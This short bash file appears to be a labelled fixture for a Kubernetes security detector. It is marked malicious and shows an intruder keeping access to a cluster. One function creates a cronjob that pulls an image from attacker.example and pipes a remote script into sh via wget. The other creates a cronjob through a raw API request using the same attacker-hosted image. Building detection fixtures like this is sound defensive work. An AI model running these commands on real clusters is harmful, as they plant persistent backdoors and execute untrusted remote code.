# shellcheck shell=bash disable=SC2154
# what: a job that lets the intruder in again.
# label: malicious
# expects: [cronjob-written]
# allows: [image-from-unknown-registry, cluster-resource-created, api-called-by-script, remote-script-piped-to-interpreter]
develop() { intruder -n shop create cronjob health --image=attacker.example/tools:1 --schedule='0 3 * * 6' -- sh -c 'wget -qO- attacker.example/x | sh'; }
hold_out() { request POST /apis/batch/v1/namespaces/shop/cronjobs '{"metadata":{"name":"metrics"},"spec":{"schedule":"0 4 * * 0","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[{"name":"m","image":"attacker.example/tools:1"}]}}}}}}'; }
